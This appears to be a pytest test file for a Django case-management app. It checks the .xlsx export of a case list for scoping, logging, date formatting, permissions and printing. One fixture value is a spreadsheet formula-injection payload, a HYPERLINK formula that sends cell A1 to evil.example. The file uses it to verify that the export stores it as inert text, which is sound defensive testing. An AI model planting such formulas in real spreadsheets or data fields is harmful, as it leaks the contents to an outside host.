"""The case list as an .xlsx: the list page's rows and filters, scoped, logged, safe, printable."""

import datetime
import io
import re
import shutil

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from qizhi.core.models import ExportLog
from qizhi.documents.tests.test_xlsx_exports import opened_by_libreoffice, pdfinfo
from qizhi.reception import services
from qizhi.reception.choices import CaseKind, Channel
from qizhi.reception.testing import reception_of

pytestmark = pytest.mark.django_db
D = datetime.date
HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")'


def register(unit, owner, name: str, *, kind=CaseKind.VISIT, accepted=None, closed=None):
    case = services.register_case(
        unit=unit, kind=kind, channel=Channel.VISIT, subject="来访", content="…", received_on=D(2026, 11, 2),
        by=owner, owner=owner, citizen_name=name,
    ).case  # fmt: skip
    if accepted:
        services.accept(case, on=accepted, by=owner)
    if closed:
        services.close(case, on=closed, outcome="已办结", by=owner)
    return case


@pytest.fixture
def cases(personas):
    a = personas.a
    services.ensure_rules()
    return {
        "open": register(a.unit, a.party_affairs, "李某", accepted=D(2026, 11, 4)),
        "closed": register(a.judicial_office, a.unit_head, "张某", accepted=D(2026, 11, 3), closed=D(2026, 11, 20)),
        "hostile": register(a.unit, a.party_affairs, HOSTILE),
        "sibling": reception_of(personas.b)["case"],
    }


def rows_of(content: bytes) -> list[tuple]:
    sheet = load_workbook(io.BytesIO(content)).active
    return [r for r in sheet.iter_rows(min_row=6, values_only=True) if r[0] is not None]


def test_it_exports_the_filtered_list_and_never_another_bureaus_case(client, personas, cases):
    client.force_login(personas.a.leader)
    every = rows_of(client.get(reverse("reception:case_export")).content)
    assert {r[1] for r in every} == {c.number for name, c in cases.items() if name != "sibling"}
    closed = rows_of(client.get(reverse("reception:case_export"), {"status": "closed"}).content)
    head = personas.a.unit_head
    assert closed == [(
        1, cases["closed"].number, "来访（接访）", "张某", datetime.datetime(2026, 11, 3),
        personas.a.judicial_office.name, head.first_name or head.username, "已办结", None, None,
        datetime.datetime(2026, 11, 20), None,
    )]  # fmt: skip
    log = ExportLog.objects.order_by("pk").last()
    assert (log.user, log.what, log.query, log.rows) == (personas.a.leader, "接访来信事项", "status=closed", 1)


def test_an_open_case_shows_its_due_dates_as_dates(client, personas, cases):
    client.force_login(personas.a.leader)
    content = client.get(reverse("reception:case_export"), {"q": cases["open"].number}).content
    sheet = load_workbook(io.BytesIO(content)).active
    accepted_on, accept_due, close_due = sheet["E6"], sheet["I6"], sheet["J6"]
    assert accepted_on.value == datetime.datetime(2026, 11, 4) and accepted_on.number_format == 'yyyy"年"m"月"d"日"'
    assert accept_due.value is None  # accepted: its acceptance clock has stopped
    assert services.dues(cases["open"])["close"].date == close_due.value.date()


def test_a_name_beginning_with_equals_is_stored_as_text(client, personas, cases):
    client.force_login(personas.a.leader)
    content = client.get(reverse("reception:case_export"), {"q": cases["hostile"].number}).content
    cell = load_workbook(io.BytesIO(content)).active["D6"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (HOSTILE, "s", True)


def test_an_anonymous_letter_names_no_one(client, personas):
    a = personas.a
    services.ensure_rules()
    letter = services.register_case(
        unit=a.unit, kind=CaseKind.LETTER, channel=Channel.INTRANET, subject="建议", content="…",
        received_on=D(2026, 11, 2), by=None, anonymous=True,
    ).case  # fmt: skip
    client.force_login(a.leader)
    assert rows_of(client.get(reverse("reception:case_export"), {"q": letter.number}).content)[0][3] == "匿名"


def test_bad_filters_give_the_lists_empty_answer_not_an_error(client, personas, cases):
    client.force_login(personas.a.leader)
    for params in ({"year": "20x6"}, {"status": "nonsense"}, {"year": "99999"}):
        response = client.get(reverse("reception:case_export"), params)
        assert response.status_code == 200 and rows_of(response.content) == []


def test_the_button_shows_to_those_who_may_export(client, personas):
    export = reverse("reception:case_export")
    client.force_login(personas.a.leader)
    assert (
        f'href="{export}?kind=visit"' in client.get(reverse("reception:case_list"), {"kind": "visit"}).content.decode()
    )
    client.force_login(personas.a.staff)  # sees the office's cases, may not export them
    assert export not in client.get(reverse("reception:case_list")).content.decode()
    assert client.get(export).status_code == 403


@pytest.mark.skipif(not shutil.which("soffice"), reason="LibreOffice is not installed")
def test_libreoffice_opens_it_on_a4_landscape(client, personas, cases, tmp_path):
    client.force_login(personas.a.leader)
    content = client.get(reverse("reception:case_export")).content
    opened_by_libreoffice(tmp_path, {"cases": content}, ["cases"])  # A4, every column on the first page
    width, height = re.search(r"Page size:\s+([\d.]+) x ([\d.]+)", pdfinfo(tmp_path / "0.pdf")).groups()
    assert float(width) > float(height)  # landscape


def test_the_queries_do_not_grow_with_the_rows(client, personas, cases, django_assert_max_num_queries):
    a = personas.a
    for _number in range(15):
        register(a.judicial_office, a.unit_head, "赵某", accepted=D(2026, 11, 3))
    client.force_login(a.leader)
    # session, user, grants, cases, stops, calendar, rules, the log row (in a savepoint), the session saved
    with django_assert_max_num_queries(11):
        assert len(rows_of(client.get(reverse("reception:case_export")).content)) == 18
